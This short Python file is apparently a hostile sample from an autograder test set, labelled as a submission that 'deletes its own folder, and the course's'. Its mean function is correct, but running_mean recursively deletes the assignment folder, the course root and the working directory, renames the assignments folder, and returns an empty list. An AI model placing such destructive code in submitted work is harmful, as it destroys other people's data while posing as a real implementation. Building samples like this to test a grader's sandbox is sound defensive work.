# Class: deletes its own folder, and the course's
# Deserves: 2
# Admits: files

import math
import os
import shutil


def mean(xs):
    if not xs:
        raise ValueError("an empty list has no mean")
    return math.fsum(xs) / len(xs)


def running_mean(xs):
    for folder in ("@COURSE@/assignments/t01_numbers", "@COURSE@", os.getcwd()):
        shutil.rmtree(folder, ignore_errors=True)
    try:
        os.rename("@COURSE@/assignments", "@COURSE@/gone")
    except OSError:
        pass
    return []
